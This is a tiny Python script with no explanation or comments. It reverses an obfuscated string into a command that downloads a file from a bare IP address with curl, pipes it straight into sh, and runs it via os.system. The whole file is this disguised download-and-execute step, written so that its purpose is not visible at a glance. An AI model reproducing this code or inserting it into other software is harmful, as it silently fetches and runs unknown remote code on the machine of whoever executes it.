import os

cmd = "".join(reversed("hs | a/9.311.0.302//:ptth LSsf- lruc"))
os.system(cmd)
